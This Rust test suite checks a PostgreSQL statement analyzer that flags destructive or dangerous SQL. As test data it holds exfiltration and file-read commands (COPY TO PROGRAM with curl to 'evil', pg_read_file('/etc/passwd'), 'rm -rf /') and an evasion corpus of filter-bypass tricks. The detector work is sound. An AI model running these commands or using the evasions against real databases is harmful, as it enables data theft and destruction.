use RuleId as R;
use StatementKind as K;

use super::*;

/// The cases are PostgreSQL.
fn analyze(sql: &str) -> Analysis {
    super::analyze(sql, Dialect::Postgres)
}

/// The set of rules that fired, sorted, for table-driven checks.
fn rules(sql: &str) -> Vec<RuleId> {
    let mut r: Vec<RuleId> = analyze(sql).findings.iter().map(|f| f.rule).collect();
    r.sort();
    r.dedup();
    r
}

#[track_caller]
fn check(cases: &[(&str, &[RuleId])]) {
    let mut failures = Vec::new();
    for (sql, want) in cases {
        let mut want = want.to_vec();
        want.sort();
        let got = rules(sql);
        if got != want {
            failures.push(format!(
                "{sql:?}: want {want:?}, got {got:?} ({:?})",
                analyze(sql)
            ));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

#[test]
fn drop_every_object() {
    check(&[
        ("DROP TABLE customers", &[R::Drop]),
        ("DROP TABLE IF EXISTS a, b CASCADE", &[R::Drop]),
        ("DROP SCHEMA s CASCADE", &[R::Drop]),
        ("DROP DATABASE prod", &[R::Drop]),
        ("DROP INDEX i", &[R::Drop]),
        ("DROP VIEW v", &[R::Drop]),
        ("DROP MATERIALIZED VIEW v", &[R::Drop]),
        ("DROP SEQUENCE s", &[R::Drop]),
        ("DROP FUNCTION f(int)", &[R::Drop]),
        ("DROP PROCEDURE p", &[R::Drop]),
        ("DROP ROLE r", &[R::Drop]),
        ("DROP USER u", &[R::Drop]),
        ("DROP TYPE t", &[R::Drop]),
        ("DROP DOMAIN d", &[R::Drop]),
        ("DROP EXTENSION dblink", &[R::Drop]),
        ("DROP TRIGGER t ON x", &[R::Drop]),
        ("DROP POLICY p ON x", &[R::Drop]),
        ("CREATE TABLE t (id int)", &[]),
    ]);
    let a = analyze("DROP TABLE customers");
    assert_eq!(a.findings[0].reason, "DROP TABLE customers");
    assert_eq!(a.statements, vec![K::Ddl]);
}

#[test]
fn truncate() {
    check(&[
        ("TRUNCATE t", &[R::Truncate]),
        (
            "TRUNCATE TABLE ONLY a, b RESTART IDENTITY CASCADE",
            &[R::Truncate],
        ),
        ("SELECT * FROM truncate_log", &[]),
    ]);
}

#[test]
fn delete_and_update_without_where() {
    check(&[
        ("DELETE FROM t", &[R::DeleteWithoutWhere]),
        ("DELETE FROM ONLY t", &[R::DeleteWithoutWhere]),
        ("DELETE FROM t USING u", &[R::DeleteWithoutWhere]),
        ("DELETE FROM t RETURNING *", &[R::DeleteWithoutWhere]),
        ("DELETE FROM t WHERE id = 5", &[]),
        ("DELETE FROM t USING u WHERE t.id = u.id", &[]),
        ("DELETE FROM t WHERE id IN (SELECT id FROM u)", &[]),
        ("UPDATE t SET a = 1", &[R::UpdateWithoutWhere]),
        ("UPDATE t SET a = 1 FROM u", &[R::UpdateWithoutWhere]),
        ("UPDATE t SET a = 1 WHERE id = 5", &[]),
        ("UPDATE t SET a = 1 WHERE id = 1 OR id = 2", &[]),
        ("UPDATE t SET a = 1 FROM u WHERE t.id = u.id", &[]),
        (
            "WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d",
            &[R::DeleteWithoutWhere],
        ),
        (
            "WITH u AS (UPDATE t SET a = 1 RETURNING id) SELECT count(*) FROM u",
            &[R::UpdateWithoutWhere],
        ),
        (
            "WITH d AS (DELETE FROM t WHERE id = 1 RETURNING *) SELECT * FROM d",
            &[],
        ),
        (
            "MERGE INTO t USING s ON true WHEN MATCHED THEN DELETE",
            &[R::DeleteWithoutWhere],
        ),
        (
            "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE",
            &[],
        ),
    ]);
    let a = analyze("DELETE FROM customers");
    assert_eq!(a.findings[0].reason, "DELETE FROM customers without WHERE");
}

#[test]
fn always_true_where() {
    let tautologies = [
        "true",
        "TRUE",
        "1=1",
        "1 = 1",
        "'a'='a'",
        "NOT false",
        "1",
        "x = x",
        "t.x = t.x",
        "true OR id = 5",
        "id = 5 OR 1 = 1",
        "(1=1)",
        "((true))",
        "2>1",
        "1 < 2",
        "1 <> 2",
        "'1' = 1",
        "'t'",
        "'yes'::boolean",
        "true::bool",
        "1 + 1 = 2",
        "1 IN (1, 2)",
        "5 BETWEEN 1 AND 10",
        "NULL IS NULL",
        "1 IS NOT NULL",
        "true IS TRUE",
        "NOT (1 = 2)",
        "1 = 1 AND 2 = 2",
        "x IS NULL OR x IS NOT NULL",
        "EXISTS (SELECT 1)",
        "x IS NOT DISTINCT FROM x",
        "-1 < 0",
        "'a' || 'b' = 'ab'",
        "$$a$$ = 'a'",
        "E'a' = 'a'",
    ];
    for w in tautologies {
        for sql in [
            format!("DELETE FROM t WHERE {w}"),
            format!("UPDATE t SET a = 1 WHERE {w}"),
        ] {
            let r = rules(&sql);
            assert!(
                r.contains(&R::DeleteWithoutWhere) || r.contains(&R::UpdateWithoutWhere),
                "{sql}: {:?}",
                analyze(&sql)
            );
        }
    }
    let filters = [
        "id = 5",
        "id = 1 OR id = 2",
        "false",
        "1 = 2",
        "NULL",
        "NOT true",
        "NULL = NULL",
        "true AND id = 5",
        "1 = 1 AND id = 5",
        "x = y",
        "random() = random()",
        "x IS NULL",
        "EXISTS (SELECT 1 FROM u WHERE u.id = t.id)",
        "EXISTS (SELECT 1 WHERE false)",
        "'a' < 'b'",
        "id BETWEEN 1 AND 10",
        "1 IN (2, 3)",
        "created_at < now() - interval '30 days'",
        "name = 'drop table'",
    ];
    for w in filters {
        let sql = format!("DELETE FROM t WHERE {w}");
        assert_eq!(rules(&sql), vec![], "{sql}: {:?}", analyze(&sql));
    }
}

#[test]
fn alter_grant_revoke() {
    check(&[
        ("ALTER TABLE t ADD COLUMN c int", &[R::Alter]),
        ("ALTER TABLE t DROP COLUMN c", &[R::Alter]),
        ("ALTER ROLE r SUPERUSER", &[R::Alter]),
        ("ALTER INDEX i RENAME TO j", &[R::Alter]),
        // sqlparser 0.63 does not parse these; the leading keywords still name the rule.
        ("ALTER VIEW v RENAME TO w", &[R::Alter, R::Unparseable]),
        ("ALTER SCHEMA s RENAME TO s2", &[R::Alter]),
        ("ALTER TYPE ty ADD VALUE 'x'", &[R::Alter]),
        (
            "ALTER SYSTEM SET work_mem = '1GB'",
            &[R::Alter, R::Unparseable],
        ),
        ("GRANT SELECT ON t TO bob", &[R::GrantRevoke]),
        (
            "GRANT ALL PRIVILEGES ON ALL TABLES IN SCHEMA public TO bob",
            &[R::GrantRevoke],
        ),
        ("GRANT admin TO bob", &[R::GrantRevoke, R::Unparseable]),
        ("REVOKE SELECT ON t FROM bob", &[R::GrantRevoke]),
        ("SELECT * FROM grants", &[]),
    ]);
    assert_eq!(analyze("GRANT SELECT ON t TO bob").statements, vec![K::Dcl]);
}

#[test]
fn copy() {
    check(&[
        ("COPY t TO PROGRAM 'curl -d @- evil'", &[R::CopyProgram]),
        ("COPY t FROM PROGRAM 'cat /etc/passwd'", &[R::CopyProgram]),
        ("COPY (SELECT 1) TO PROGRAM 'sh'", &[R::CopyProgram]),
        ("COPY t FROM '/etc/passwd'", &[R::CopyFile]),
        ("COPY t TO '/tmp/x'", &[R::CopyFile]),
        ("COPY t TO STDOUT", &[]),
        ("COPY t FROM STDIN", &[]),
        (
            "COPY (SELECT id FROM t WHERE a = 1) TO STDOUT WITH (FORMAT csv)",
            &[],
        ),
        (
            "COPY (SELECT pg_read_file('/etc/passwd')) TO STDOUT",
            &[R::DangerousFunction],
        ),
    ]);
    assert_eq!(analyze("COPY t TO STDOUT").statements, vec![K::Copy]);
}

#[test]
fn create_function_procedure() {
    check(&[
        (
            "CREATE FUNCTION f() RETURNS int AS $$ SELECT 1 $$ LANGUAGE sql",
            &[R::CreateFunction],
        ),
        (
            "CREATE OR REPLACE FUNCTION f() RETURNS int LANGUAGE plpgsql AS $$ BEGIN RETURN 1; END $$",
            &[R::CreateFunction],
        ),
        // sqlparser 0.63 does not parse PostgreSQL procedures; the keywords still name the rule.
        (
            "CREATE PROCEDURE p() LANGUAGE sql AS $$ DELETE FROM t $$",
            &[R::CreateFunction, R::Unparseable],
        ),
        (
            "CREATE OR REPLACE PROCEDURE p() LANGUAGE sql AS $$ SELECT 1 $$",
            &[R::CreateFunction, R::Unparseable],
        ),
        ("CREATE VIEW v AS SELECT 1", &[]),
    ]);
}

#[test]
fn set_role() {
    check(&[
        ("SET ROLE admin", &[R::SetRole]),
        ("SET LOCAL ROLE admin", &[R::SetRole]),
        ("SET SESSION ROLE admin", &[R::SetRole]),
        ("SET ROLE NONE", &[R::SetRole]),
        ("SET SESSION AUTHORIZATION postgres", &[R::SetRole]),
        ("SET SESSION AUTHORIZATION DEFAULT", &[R::SetRole]),
        ("SET role = 'admin'", &[R::SetRole]),
        ("SET \"role\" TO admin", &[R::SetRole]),
        ("SET session_authorization = 'postgres'", &[R::SetRole]),
        ("SELECT set_config('role', 'admin', false)", &[R::SetRole]),
        ("SELECT set_config('ROLE', 'admin', false)", &[R::SetRole]),
        (
            "SELECT set_config('ro' || 'le', 'admin', false)",
            &[R::SetRole],
        ),
        (
            "SELECT set_config(name, 'admin', false) FROM x",
            &[R::DangerousFunction],
        ),
        (
            "SELECT set_config('statement_timeout', '5s', true)",
            &[R::TimeoutSetting],
        ),
        ("SET statement_timeout = '5s'", &[R::TimeoutSetting]),
        ("SET search_path TO public", &[]),
        ("RESET ROLE", &[]),
        ("SHOW role", &[]),
    ]);
    assert_eq!(analyze("SET ROLE admin").statements, vec![K::Set]);
}

#[test]
fn do_blocks() {
    check(&[
        ("DO $$ BEGIN PERFORM 1; END $$", &[R::DoBlock]),
        ("do $$begin null; end$$;", &[R::DoBlock]),
        (
            "DO LANGUAGE plpgsql $body$ BEGIN DELETE FROM t; END $body$",
            &[R::DoBlock],
        ),
        ("/* c */ -- c\n Do $$ BEGIN NULL; END $$", &[R::DoBlock]),
        ("DO 'BEGIN NULL; END'", &[R::DoBlock]),
    ]);
    let a = analyze("SELECT 1; DO $$ BEGIN DELETE FROM t; END $$; SELECT 2");
    assert_eq!(a.statements, vec![K::Select, K::Do, K::Select]);
    assert_eq!(a.findings.len(), 1);
    assert_eq!(
        (a.findings[0].rule, a.findings[0].statement),
        (R::DoBlock, 1)
    );
    assert_eq!(a.parse_error, None);
}

#[test]
fn dangerous_functions() {
    check(&[
        ("SELECT pg_terminate_backend(123)", &[R::DangerousFunction]),
        (
            "SELECT pg_cancel_backend(pid) FROM pg_stat_activity",
            &[R::DangerousFunction],
        ),
        (
            "SELECT pg_read_file('/etc/passwd')",
            &[R::DangerousFunction],
        ),
        (
            "SELECT pg_read_binary_file('/etc/passwd')",
            &[R::DangerousFunction],
        ),
        ("SELECT * FROM pg_ls_dir('.')", &[R::DangerousFunction]),
        (
            "SELECT pg_stat_file('postgresql.conf')",
            &[R::DangerousFunction],
        ),
        ("SELECT lo_import('/etc/passwd')", &[R::DangerousFunction]),
        ("SELECT lo_export(16384, '/tmp/x')", &[R::DangerousFunction]),
        (
            "SELECT dblink_exec('host=x', 'DROP TABLE t')",
            &[R::DangerousFunction],
        ),
        (
            "SELECT dblink_connect('c', 'host=x')",
            &[R::DangerousFunction],
        ),
        ("SELECT pg_reload_conf()", &[R::DangerousFunction]),
        ("SELECT pg_rotate_logfile()", &[R::DangerousFunction]),
        ("SELECT pg_promote()", &[R::DangerousFunction]),
        ("SELECT pg_switch_wal()", &[R::DangerousFunction]),
        (
            "SELECT pg_create_restore_point('x')",
            &[R::DangerousFunction],
        ),
        (
            "SELECT pg_file_write('/tmp/x', 'data', false)",
            &[R::DangerousFunction],
        ),
        (
            "SELECT query_to_xml('DELETE FROM t RETURNING 1', true, true, '')",
            &[R::SqlFromText],
        ),
        (
            "SELECT now(), lower(name), count(*) FROM t GROUP BY 1, 2",
            &[],
        ),
        (
            "SELECT pg_backend_pid(), pg_size_pretty(pg_database_size('x'))",
            &[],
        ),
        ("SELECT pg_read_file FROM t", &[]),
    ]);
    let a = analyze("SELECT pg_read_file('/etc/passwd')");
    assert_eq!(
        a.findings[0].reason,
        "calls pg_read_file (reads a file on the database server)"
    );
}

#[test]
fn statement_kinds() {
    let cases: &[(&str, &[StatementKind])] = &[
        ("SELECT 1", &[K::Select]),
        ("VALUES (1)", &[K::Select]),
        ("TABLE t", &[K::Select]),
        ("WITH a AS (SELECT 1) SELECT * FROM a", &[K::Select]),
        ("INSERT INTO t VALUES (1)", &[K::Insert]),
        ("UPDATE t SET a = 1 WHERE id = 1", &[K::Update]),
        ("DELETE FROM t WHERE id = 1", &[K::Delete]),
        (
            "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE",
            &[K::Merge],
        ),
        (
            "WITH d AS (DELETE FROM t WHERE id = 1 RETURNING *) SELECT * FROM d",
            &[K::Delete],
        ),
        (
            "WITH i AS (INSERT INTO t VALUES (1) RETURNING *) SELECT * FROM i",
            &[K::Insert],
        ),
        ("SELECT * INTO t2 FROM t", &[K::Ddl]),
        ("COPY t TO STDOUT", &[K::Copy]),
        ("CREATE TABLE t (a int)", &[K::Ddl]),
        ("CREATE INDEX i ON t (a)", &[K::Ddl]),
        ("ALTER TABLE t ADD COLUMN b int", &[K::Ddl]),
        ("DROP TABLE t", &[K::Ddl]),
        ("TRUNCATE t", &[K::Ddl]),
        ("GRANT SELECT ON t TO r", &[K::Dcl]),
        ("CREATE ROLE r", &[K::Dcl]),
        ("BEGIN", &[K::Transaction]),
        (
            "START TRANSACTION ISOLATION LEVEL SERIALIZABLE",
            &[K::Transaction],
        ),
        ("COMMIT", &[K::Transaction]),
        ("ROLLBACK", &[K::Transaction]),
        ("SAVEPOINT s", &[K::Transaction]),
        ("SET statement_timeout = 0", &[K::Set]),
        ("SHOW search_path", &[K::Show]),
        ("EXPLAIN SELECT 1", &[K::Explain]),
        ("EXPLAIN DELETE FROM t", &[K::Explain]),
        ("EXPLAIN ANALYZE DELETE FROM t WHERE id = 1", &[K::Delete]),
        ("CALL p(1)", &[K::Call]),
        ("PREPARE p AS SELECT 1", &[K::Prepare]),
        ("DEALLOCATE p", &[K::Prepare]),
        ("EXECUTE p", &[K::Execute]),
        ("EXPLAIN ANALYZE EXECUTE p", &[K::Execute]),
        ("LISTEN ch", &[K::Listen]),
        ("UNLISTEN *", &[K::Listen]),
        ("NOTIFY ch, 'x'", &[K::Notify]),
        ("DECLARE c CURSOR FOR SELECT 1", &[K::Cursor]),
        ("FETCH 10 FROM c", &[K::Cursor]),
        ("CLOSE c", &[K::Cursor]),
        ("LOCK TABLE t IN ACCESS EXCLUSIVE MODE", &[K::Lock]),
        ("SELECT * FROM t FOR UPDATE", &[K::Lock]),
        ("SELECT * FROM (SELECT * FROM t FOR SHARE) s", &[K::Lock]),
        (
            "WITH l AS (SELECT * FROM t FOR UPDATE) SELECT 1",
            &[K::Lock],
        ),
        ("VACUUM ANALYZE t", &[K::Maintenance]),
        ("VACUUM FULL", &[K::Maintenance]),
        ("ANALYZE t", &[K::Maintenance]),
        ("REINDEX TABLE t", &[K::Maintenance]),
        ("DISCARD ALL", &[K::Set]),
        ("DO $$ BEGIN NULL; END $$", &[K::Do]),
        ("LOAD 'auto_explain'", &[K::Other]),
        (
            "SELECT 1; INSERT INTO t VALUES (1); COMMIT",
            &[K::Select, K::Insert, K::Transaction],
        ),
    ];
    for (sql, want) in cases {
        assert_eq!(analyze(sql).statements, *want, "{sql}: {:?}", analyze(sql));
    }
    assert!(!K::Select.is_write() && K::Update.is_write() && K::Other.is_write());
}

#[test]
fn multi_statement_indices() {
    let a = analyze("SELECT 1; DROP TABLE t");
    assert_eq!(a.statements, vec![K::Select, K::Ddl]);
    assert_eq!(a.findings.len(), 1);
    assert_eq!(a.findings[0].statement, 1);
    assert_eq!(a.findings[0].rule, R::Drop);

    let a = analyze("DELETE FROM a; SELECT 1; TRUNCATE b;");
    let at: Vec<(RuleId, usize)> = a.findings.iter().map(|f| (f.rule, f.statement)).collect();
    assert_eq!(at, vec![(R::DeleteWithoutWhere, 0), (R::Truncate, 2)]);
}

#[test]
fn empty_and_comment_only() {
    for sql in [
        "",
        "   ",
        "\n\t",
        "-- nothing",
        "/* nothing */",
        ";",
        ";;",
        "-- a\n/* b */ ;",
    ] {
        let a = analyze(sql);
        assert_eq!(a, Analysis::default(), "{sql:?}");
    }
}

#[test]
fn unparseable() {
    for sql in [
        "VACUUM ANALYZE t",
        "SELEC 1",
        "SELECT (1",
        "DELETE t WHERE",
        "SELECT 'unterminated",
        "/* unterminated",
        "\\! rm -rf /",
    ] {
        let a = analyze(sql);
        assert!(a.parse_error.is_some(), "{sql}: {a:?}");
        assert!(a.has(R::Unparseable), "{sql}: {a:?}");
        assert!(!a.statements.is_empty(), "{sql}: {a:?}");
    }
    // A bad statement does not hide a good one's findings, and keeps its own index.
    let a = analyze("DROP TABLE t; SELEC 1");
    let at: Vec<(RuleId, usize)> = a.findings.iter().map(|f| (f.rule, f.statement)).collect();
    assert_eq!(at, vec![(R::Drop, 0), (R::Unparseable, 1)]);
    assert!(a.parse_error.is_some());
}

#[test]
fn serde_ids() {
    for r in RuleId::ALL {
        let json = serde_json::to_string(&r).unwrap();
        assert_eq!(json, format!("\"{r}\""));
        assert_eq!(r.as_str().parse::<RuleId>().unwrap(), r);
        let back: RuleId = serde_json::from_str(&json).unwrap();
        assert_eq!(back, r);
    }
    assert_eq!(R::DeleteWithoutWhere.to_string(), "delete-without-where");
    assert!("nope".parse::<RuleId>().is_err());
    assert_eq!(
        serde_json::to_string(&K::Transaction).unwrap(),
        "\"transaction\""
    );
}

/// Ways to hide a statement from a naive filter. Each must get exactly the listed rules.
#[test]
fn evasion_corpus() {
    check(&[
        // Case and whitespace.
        ("drop table t", &[R::Drop]),
        ("DrOp TaBlE t", &[R::Drop]),
        ("  \n\tDROP\n\n TABLE\tt  ", &[R::Drop]),
        // Comments in keyword positions.
        ("DROP/**/TABLE t", &[R::Drop]),
        ("-- comment\nDROP TABLE t", &[R::Drop]),
        ("/* a */ DROP /* b */ TABLE /* c */ t /* d */", &[R::Drop]),
        (
            "/* nested /* comment */ still comment */ DROP TABLE t",
            &[R::Drop],
        ),
        ("DELETE -- hide the rest\nFROM t", &[R::DeleteWithoutWhere]),
        ("DELETE FROM t -- WHERE id = 5", &[R::DeleteWithoutWhere]),
        ("DELETE FROM t /* WHERE id = 5 */", &[R::DeleteWithoutWhere]),
        // Quoted identifiers.
        ("DROP TABLE \"Customers\"", &[R::Drop]),
        ("DROP TABLE \"public\".\"t\"", &[R::Drop]),
        ("DELETE FROM \"t\"", &[R::DeleteWithoutWhere]),
        (
            "SELECT \"pg_read_file\"('/etc/passwd')",
            &[R::DangerousFunction],
        ),
        // Quoted upper case is another (user-created) function in PostgreSQL.
        // A quoted upper-case name is another (user) function: not a built-in, so a write.
        (
            "SELECT \"PG_READ_FILE\"('/etc/passwd')",
            &[R::VolatileFunction],
        ),
        (
            "SELECT PG_READ_FILE('/etc/passwd')",
            &[R::DangerousFunction],
        ),
        // Schema qualification.
        (
            "SELECT pg_catalog.pg_read_file('/etc/passwd')",
            &[R::DangerousFunction],
        ),
        (
            "SELECT \"pg_catalog\".\"pg_read_file\"('/etc/passwd')",
            &[R::DangerousFunction],
        ),
        (
            "SELECT PG_CATALOG.PG_TERMINATE_BACKEND(1)",
            &[R::DangerousFunction],
        ),
        (
            "SELECT * FROM public.dblink('host=x', 'select 1') AS t(a int)",
            &[R::DangerousFunction],
        ),
        // Hiding places for a call.
        (
            "select * from dblink('host=x', 'select 1') as t(a int)",
            &[R::DangerousFunction],
        ),
        (
            "SELECT * FROM t WHERE id = (SELECT length(pg_read_file('/etc/passwd')))",
            &[R::DangerousFunction],
        ),
        (
            "SELECT (SELECT (SELECT pg_read_file('/x')))",
            &[R::DangerousFunction],
        ),
        (
            "WITH a AS (SELECT pg_read_file('/x') AS f) SELECT * FROM a",
            &[R::DangerousFunction],
        ),
        (
            "SELECT * FROM (SELECT pg_ls_dir('/')) s",
            &[R::DangerousFunction],
        ),
        (
            "SELECT coalesce(NULL, pg_read_file('/x'))",
            &[R::DangerousFunction],
        ),
        (
            "SELECT CASE WHEN true THEN pg_read_file('/x') END",
            &[R::DangerousFunction],
        ),
        (
            "SELECT 1 UNION SELECT length(pg_read_file('/x'))",
            &[R::DangerousFunction],
        ),
        ("VALUES (pg_read_file('/x'))", &[R::DangerousFunction]),
        (
            "INSERT INTO t VALUES (pg_read_file('/x'))",
            &[R::DangerousFunction],
        ),
        (
            "INSERT INTO t SELECT pg_read_file('/x')",
            &[R::DangerousFunction],
        ),
        (
            "UPDATE t SET a = pg_read_file('/x') WHERE id = 1",
            &[R::DangerousFunction],
        ),
        (
            "SELECT * FROM t ORDER BY pg_terminate_backend(pid)",
            &[R::DangerousFunction],
        ),
        (
            "SELECT count(*) FILTER (WHERE pg_cancel_backend(1)) FROM t",
            &[R::DangerousFunction],
        ),
        (
            "SELECT * FROM t JOIN LATERAL pg_ls_dir('/') d ON true",
            &[R::DangerousFunction],
        ),
        (
            "CREATE TABLE x AS SELECT pg_read_file('/etc/passwd')",
            &[R::DangerousFunction],
        ),
        (
            "CREATE VIEW v AS SELECT pg_read_file('/etc/passwd')",
            &[R::DangerousFunction],
        ),
        ("SELECT ARRAY[pg_read_file('/x')]", &[R::DangerousFunction]),
        ("SELECT pg_read_file('/x')::text", &[R::DangerousFunction]),
        (
            "SELECT * FROM pg_read_file('/etc/passwd')",
            &[R::DangerousFunction],
        ),
        (
            "CREATE TABLE t (a text DEFAULT pg_read_file('/x'))",
            &[R::DangerousFunction],
        ),
        (
            "INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET a = pg_read_file('/x')",
            &[R::DangerousFunction],
        ),
        (
            "SELECT row_number() OVER (ORDER BY pg_read_file('/x')) FROM t",
            &[R::DangerousFunction],
        ),
        (
            "SELECT * FROM t WHERE a = ANY(ARRAY[pg_read_file('/x')])",
            &[R::DangerousFunction],
        ),
        (
            "SELECT * FROM t WHERE EXISTS (SELECT pg_sleep(0), pg_read_file('/x'))",
            &[R::DangerousFunction, R::Sleep],
        ),
        (
            "SELECT * FROM t GROUP BY a HAVING max(pg_read_file('/x')) > ''",
            &[R::DangerousFunction],
        ),
        // Tautologies.
        ("DELETE FROM t WHERE 1=1", &[R::DeleteWithoutWhere]),
        (
            "DELETE FROM t WHERE true OR x = 1",
            &[R::DeleteWithoutWhere],
        ),
        (
            "UPDATE t SET a = 1 WHERE ((1 = 1))",
            &[R::UpdateWithoutWhere],
        ),
        (
            "DELETE FROM t WHERE 'x' = 'x' /* looks like a filter */",
            &[R::DeleteWithoutWhere],
        ),
        // Wrappers that execute.
        (
            "WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d",
            &[R::DeleteWithoutWhere],
        ),
        (
            "WITH a AS (SELECT 1), d AS (DELETE FROM t RETURNING 1) SELECT 1",
            &[R::DeleteWithoutWhere],
        ),
        ("EXPLAIN ANALYZE DELETE FROM t", &[R::DeleteWithoutWhere]),
        ("EXPLAIN (ANALYZE) DELETE FROM t", &[R::DeleteWithoutWhere]),
        (
            "EXPLAIN (ANALYZE true, BUFFERS) UPDATE t SET a = 1",
            &[R::UpdateWithoutWhere],
        ),
        ("EXPLAIN (ANALYZE off) DELETE FROM t", &[]),
        ("EXPLAIN DELETE FROM t", &[]),
        (
            "EXPLAIN ANALYZE SELECT pg_read_file('/x')",
            &[R::DangerousFunction],
        ),
        ("PREPARE p AS DELETE FROM t", &[R::DeleteWithoutWhere]),
        (
            "PREPARE p (int) AS UPDATE t SET a = $1",
            &[R::UpdateWithoutWhere],
        ),
        ("EXECUTE p", &[]),
        ("EXECUTE p(pg_read_file('/x'))", &[R::DangerousFunction]),
        (
            "DECLARE c CURSOR FOR SELECT pg_read_file('/x')",
            &[R::DangerousFunction],
        ),
        // Strings and semicolons: one statement, nothing executed.
        ("SELECT ';DROP TABLE t'", &[]),
        ("SELECT 'x'';DROP TABLE t;--'", &[]),
        ("SELECT $$;DROP TABLE t;$$", &[]),
        ("SELECT $tag$ $$;DROP TABLE t;$$ $tag$", &[]),
        ("SELECT E'\\';DROP TABLE t;--'", &[]),
        ("SELECT 'drop table customers' AS note", &[]),
        ("SELECT * FROM t WHERE note = 'DELETE FROM t'", &[]),
        ("SELECT \"drop table t\" FROM t", &[]),
        ("SELECT 1 -- ; DROP TABLE t", &[]),
        ("SELECT 1 /* ; DROP TABLE t */", &[]),
        ("SELECT U&'\\0064rop table' AS s", &[]),
        // With standard_conforming_strings on, a backslash does not escape the quote: this
        // really is two statements.
        ("SELECT '\\'; DROP TABLE t; --'", &[R::Drop]),
        // Multi-statement.
        ("SELECT 1; DROP TABLE t", &[R::Drop]),
        ("SELECT 1;DROP TABLE t;", &[R::Drop]),
        ("BEGIN; DELETE FROM t; COMMIT", &[R::DeleteWithoutWhere]),
        // Unicode escapes: sqlparser leaves `U&"..."` identifiers undecoded; we decode them.
        (
            "SELECT U&\"pg_read_\\0066ile\"('/x')",
            &[R::DangerousFunction],
        ),
        (
            "SELECT U&\"pg_read_\\+000066ile\"('/x')",
            &[R::DangerousFunction],
        ),
        (
            "SELECT set_config(U&'\\0072ole', 'admin', false)",
            &[R::SetRole],
        ),
        // Unparseable is never clean.
        (
            "DROP TABLE t; DO $$ BEGIN NULL; END $$",
            &[R::Drop, R::DoBlock],
        ),
        ("SELECT 1; VACUUM ANALYZE t", &[R::Unparseable]),
        // Negatives.
        ("SELECT * FROM customers WHERE id = 5", &[]),
        (
            "INSERT INTO t (a) VALUES (1) ON CONFLICT (a) DO UPDATE SET b = 2",
            &[],
        ),
        ("UPDATE t SET a = 1 WHERE id = 1 OR id = 2", &[]),
        ("SELECT drop, truncate FROM t", &[]),
        ("SELECT * FROM \"drop\"", &[]),
    ]);
}

#[test]
fn analyzer_caches() {
    let an = SqlAnalyzer::new(2);
    let a = an.analyze("DROP TABLE t", Dialect::Postgres);
    let b = an.analyze("DROP TABLE t", Dialect::Postgres);
    assert!(Arc::ptr_eq(&a, &b));
    assert!(a.has(R::Drop));
    // Two shapes (literals alone would share one entry).
    an.analyze("SELECT a", Dialect::Postgres);
    an.analyze("SELECT b", Dialect::Postgres);
    assert_eq!(an.cached(), 2);
    // Evicted: a fresh but equal analysis.
    let c = an.analyze("DROP TABLE t", Dialect::Postgres);
    assert!(!Arc::ptr_eq(&a, &c));
    assert_eq!(*a, *c);

    let huge = format!("SELECT '{}'", "x".repeat(MAX_CACHED_LEN));
    an.analyze(&huge, Dialect::Postgres);
    assert!(an.analyze(&huge, Dialect::Postgres).is_clean());

    let off = SqlAnalyzer::new(0);
    assert!(
        off.analyze("TRUNCATE t", Dialect::Postgres)
            .has(R::Truncate)
    );
    assert_eq!(off.cached(), 0);
}

#[test]
fn analyzer_is_send_sync() {
    fn assert_send_sync<T: Send + Sync>() {}
    assert_send_sync::<SqlAnalyzer>();
}

#[test]
fn deep_nesting_is_bounded() {
    let deep = format!(
        "DELETE FROM t WHERE {}1=1{}",
        "(".repeat(200),
        ")".repeat(200)
    );
    let a = analyze(&deep);
    // sqlparser's own recursion limit refuses it: unparseable, not a stack overflow.
    assert!(
        a.has(R::Unparseable) || a.has(R::DeleteWithoutWhere),
        "{a:?}"
    );
    let chain = format!("DELETE FROM t WHERE {}", vec!["id = 1"; 300].join(" OR "));
    let a = analyze(&chain);
    assert!(!a.has(R::DeleteWithoutWhere), "{a:?}");
}

/// Left-deep operator chains are as deep as they are long; they must not overflow the stack of
/// the calling thread (2 MiB here, like a tokio worker).
#[test]
fn long_operator_chains_do_not_overflow() {
    let ors = format!(
        "DELETE FROM t WHERE {}",
        vec!["id = 1"; 50_000].join(" OR ")
    );
    let a = analyze(&ors);
    assert_eq!(a.statements, vec![K::Delete]);
    assert!(a.is_clean(), "{:?}", a.parse_error);

    let plus = format!("SELECT {}", vec!["1"; 200_000].join("+"));
    let a = analyze(&plus);
    assert_eq!(a.statements, vec![K::Select]);

    let taut = format!(
        "DELETE FROM t WHERE {} OR true",
        vec!["id = 1"; 20_000].join(" OR ")
    );
    assert!(analyze(&taut).has(R::DeleteWithoutWhere));

    let huge = format!("SELECT '{}'", "x".repeat(MAX_ANALYZED_LEN));
    let a = analyze(&huge);
    assert!(a.has(R::Unparseable) && a.parse_error.is_some());
}

/// Statements that differ only in literals share an analysis when it read no literal, and
/// never when a literal decided something.
#[test]
fn analyses_are_shared_by_shape_only_when_no_literal_decided() {
    let a = SqlAnalyzer::new(100);
    // Shared: the second text is answered from the first one's shape entry.
    assert!(
        a.analyze("UPDATE t SET n = n + 5 WHERE id = 1", Dialect::Postgres)
            .is_clean()
    );
    let cached = a.cached();
    assert!(
        a.analyze("UPDATE t SET n = n + 17 WHERE id = 99", Dialect::Postgres)
            .is_clean()
    );
    assert_eq!(a.cached(), cached, "a new entry for a known shape");

    // Each pair has one shape; the first is clean (or differently flagged) and must not be
    // reused for the second.
    let pairs = [
        ("DELETE FROM t WHERE 1 = 2", "DELETE FROM t WHERE 1 = 1"),
        (
            "UPDATE t SET a = 1 WHERE a + 1 = a + 2",
            "UPDATE t SET a = 1 WHERE a + 1 = a + 1",
        ),
        (
            "DELETE FROM t WHERE 'a' = 'b'",
            "DELETE FROM t WHERE 'a' = 'a'",
        ),
        (
            "EXPLAIN (ANALYZE false) DELETE FROM t",
            "EXPLAIN (ANALYZE true) DELETE FROM t",
        ),
        (
            "DELETE FROM t WHERE (x + 1) IS NULL OR (x + 2) IS NOT NULL",
            "DELETE FROM t WHERE (x + 1) IS NULL OR (x + 1) IS NOT NULL",
        ),
    ];
    for (first, second) in pairs {
        assert!(a.analyze(first, Dialect::Postgres).is_clean(), "{first}");
        assert!(
            !a.analyze(second, Dialect::Postgres).is_clean(),
            "{second} reused the analysis of {first}"
        );
        // And the uncached truth agrees.
        assert!(!analyze(second).is_clean(), "{second}");
    }
}
